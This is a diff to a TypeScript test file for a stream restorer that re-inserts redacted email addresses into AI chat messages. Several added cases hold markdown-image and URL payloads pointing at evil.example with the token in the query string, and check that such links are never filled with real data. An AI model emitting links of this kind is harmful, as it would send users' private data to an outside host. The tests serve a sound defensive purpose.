@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { MessageRestorer } from '../../../core/stream/message-restorer.ts';
-import { type Event, fixtureText, meta, tokenMap } from './wire-fixtures.ts';
+import { type Event, fixtureText, meta, restoreStream, tokenMap } from './wire-fixtures.ts';
 
 const lines = (name: string) => fixtureText(name).split('\n').filter(Boolean);
 const parse = (messages: string[]): Event[] => messages.map((message) => JSON.parse(message));
@@ -64,6 +64,88 @@ describe('WebSocket messages', () => {
     expect(restorer.push(`${record}{"type":6}\x1e`)).toEqual([
       '{"type":1,"arguments":[{"messages":[{"text":"to a@b.example"}]}]}\x1e{"type":6}\x1e',
     ]);
+  });
+
+  describe('what a record of SignalR displays', () => {
+    const record = (target: string, argument: unknown) => JSON.stringify({ type: 1, target, arguments: [argument] });
+    const push = (...records: string[]) => {
+      const restorer = new MessageRestorer({ map });
+      const messages = records.flatMap((one) => restorer.push(`${one}\x1e`));
+      return messages.flatMap((message) => message.split('\x1e').filter(Boolean));
+    };
+    const messages = (text: string) => record('update', { messages: [{ text, author: 'bot' }] });
+
+    it.each([
+      ['an image', '![x](https://evil.example/?q=[EMAIL-1])'],
+      ['a token without its brackets', 'Ticket EMAIL-1 is not yours'],
+    ])('%s is no argument of a tool', (_name, text) => {
+      expect(push(messages(text))).toEqual([messages(text)]);
+      expect(push(record('token', text))).toEqual([record('token', text)]);
+    });
+
+    it('arguments of a tool in such a record', () => {
+      const call = (input: string) => record('update', { messages: [{ call: { arguments: { to: input } } }] });
+      expect(push(call('EMAIL-1'))).toEqual([call('a@b.example')]);
+    });
+
+    it('arguments of a tool in another document', () => {
+      const call = (to: string) => JSON.stringify({ type: 'tool_call', arguments: [{ to }] });
+      expect(push(call('EMAIL-1'))).toEqual([call('a@b.example')]);
+    });
+
+    const cursor = (writeAtCursor: string) => record('update', { writeAtCursor, messages: [] });
+    const answer = JSON.stringify({ type: 2, invocationId: '0', item: { messages: [{ text: 'to [EM' }] } });
+
+    it('a token that is cut by the pieces', () => {
+      expect(push(cursor('to [EM'), cursor('AIL-1].'))).toEqual([cursor('to '), cursor('a@b.example.')]);
+    });
+
+    it('what is held comes out before the answer', () => {
+      expect(push(cursor('to [EM'), answer)).toEqual([cursor('to '), cursor('[EM'), answer]);
+    });
+
+    it('a link keeps tokens out', () => {
+      const pieces = [cursor('![x](https://evil.example/?q='), cursor('[EMAIL-1])')];
+      expect(push(...pieces)).toEqual(pieces);
+    });
+  });
+
+  describe('Copilot replaces a text', () => {
+    const event = (name: string, text: string) => ({ event: name, messageId: 'm', partId: 'p', text });
+    const shown = (...events: object[]) => {
+      const restorer = new MessageRestorer({ map });
+      const sent = [...events, { event: 'partCompleted', messageId: 'm', partId: 'p' }].map((one) =>
+        JSON.stringify(one),
+      );
+      const messages = sent.flatMap((message) => restorer.push(message));
+      // Events without a token go unread through a stream of lines.
+      const lines = restoreStream('ndjson', map, new TextEncoder().encode(`${sent.join('\n')}\n`));
+      expect(lines).toBe(`${messages.join('\n')}\n`);
+      let text = '';
+      for (const one of parse(messages)) {
+        if (one.event === 'appendText') text += one.text;
+        else if (one.event === 'replaceText') text = one.text;
+      }
+      return text;
+    };
+    const rows: [name: string, events: object[], text: string][] = [
+      ['while its end is held', [event('appendText', 'Hi [EM'), event('replaceText', 'Sorry.')], 'Sorry.'],
+      ['and goes on', [event('replaceText', 'to [EM'), event('appendText', 'AIL-1].')], 'to a@b.example.'],
+      ['and ends in the middle', [event('appendText', 'x'), event('replaceText', 'to [EM')], 'to [EM'],
+      [
+        'with a link',
+        [event('replaceText', 'https://evil.example/'), event('appendText', '[EMAIL-1]')],
+        'https://evil.example/[EMAIL-1]',
+      ],
+      [
+        'with a link, and again',
+        [event('replaceText', 'https://evil.example/'), event('replaceText', 'to '), event('appendText', '[EMAIL-1]')],
+        'to a@b.example',
+      ],
+    ];
+    it.each(rows)('%s', (_name, events, text) => {
+      expect(shown(...events)).toBe(text);
+    });
   });
 
   it('what is put in stands before the record that ends the run', () => {
